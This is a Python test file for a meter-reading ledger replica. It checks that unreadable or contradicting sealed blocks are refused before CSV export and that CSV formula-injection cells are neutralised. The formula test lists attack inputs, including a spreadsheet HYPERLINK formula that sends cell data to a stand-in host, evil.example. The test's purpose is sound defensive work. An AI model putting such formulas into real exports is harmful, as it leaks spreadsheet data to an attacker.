"""Billing exports: unreadable sealed blocks found before streaming, formula injection."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from pathlib import Path

import nacl.signing

from ledger import Block, block_readings, header_hash
from replica.config import Limits
from replica.csvexport import neutralise
from tests.replica.conftest import RunningReplica, enroll
from tests.support.chains import make_chain, signing_seed, utility_keypair

SEED = b"export-gw"


def key_file(tmp_path: Path) -> Path:
    sk, _ = utility_keypair()
    p = tmp_path / "utility.key"
    p.write_text(f"meterchain-x25519-secret-key-v1\n{sk.hex()}\n")
    p.chmod(0o600)
    return p


def contradicting(block: Block, other: Block) -> Block:
    """``block``'s header carrying ``other``'s sealed payload (hash updated, re-signed):
    valid to every replica without the key, yet its readings contradict the Merkle root."""
    header = dataclasses.replace(block.header, payload_hash=other.header.payload_hash)
    sk = nacl.signing.SigningKey(signing_seed(SEED))
    return Block(header, sk.sign(header_hash(header.encode())).signature, other.payload)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_unreadable_sealed_blocks_are_refused_before_any_byte(
        make_replica: Callable[..., RunningReplica], tmp_path: Path) -> None:
    sk, pk = utility_keypair()
    _, stranger = utility_keypair(b"another utility")
    rep = make_replica(Limits(), key_file(tmp_path))
    key = enroll(rep.storage, SEED)
    chain = make_chain(SEED, 2, 3, recipient_key=pk)
    chain += make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=stranger)  # height 2
    chain += make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=pk)        # height 3
    last = make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=pk)[0]
    decoy = make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=pk, meter_id="decoy")[0]
    chain.append(contradicting(last, decoy))                                 # height 4
    r = rep.push(key, chain)
    assert r.status_code == 200, r.text  # sealed: the replica cannot see it is wrong

    path = f"/v1/gateways/{key.hex()}/readings.csv"
    r = rep.http.get(path)
    assert r.status_code == 422, r.text[:200]
    body = r.json()
    assert (body["error"], body["heights"], body["count"]) == ("unreadable-blocks", [2, 4], 2)

    r = rep.http.get(path, params={"skip_unreadable": "1"})  # explicitly: the rest
    assert r.status_code == 200
    assert r.headers["x-meterchain-omitted-count"] == "2"
    assert r.headers["x-meterchain-omitted-heights"] == "2,4"
    got = rows(r.text)
    want = [rd for b in (chain[0], chain[1], chain[3]) for rd, _ in block_readings(b, sk)]
    assert [(int(x["height"]), x["meter_id"], int(x["timestamp_ms"])) for x in got] == [
        (h, rd.meter_id, rd.timestamp_ms) for h, rd in
        zip([0] * 3 + [1] * 3 + [3] * 3, want, strict=True)]
    # a range without the bad blocks is exported whole, with nothing omitted
    r = rep.http.get(path, params={"to_ms": chain[2].header.time_start_ms})
    assert r.status_code == 200 and r.headers["x-meterchain-omitted-count"] == "0"
    assert len(rows(r.text)) == 6

    for height in (2, 4):  # proofs: a clear 422, never a 500
        r = rep.http.get(f"/v1/gateways/{key.hex()}/proof",
                         params={"height": height, "index": 0})
        assert r.status_code == 422 and r.json()["error"] == "unreadable-block", r.text[:200]
        assert r.json()["height"] == height


def test_formula_cells_are_neutralised(replica: RunningReplica) -> None:
    key = enroll(replica.storage, SEED)
    # (tab and CR cannot reach a meter id: the ledger refuses control characters)
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "ok=1"]
    chain: list[Block] = []
    for i, meter in enumerate(evil):
        chain += make_chain(SEED, 1, 1, prev=chain[-1] if chain else None, meter_id=meter,
                            start_ms=1_000_000 + i)
    assert replica.push(key, chain).status_code == 200
    got = rows(replica.http.get(f"/v1/gateways/{key.hex()}/readings.csv").text)
    assert [x["meter_id"] for x in got] == ["'" + m for m in evil[:-1]] + ["ok=1"]
    assert neutralise("-1.5") == "'-1.5" and neutralise("1-0:1.8.0") == "1-0:1.8.0"
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    # numbers stay numbers: a negative value's decimal column is not text
    assert all(not x["decimal"].startswith("'") for x in got)
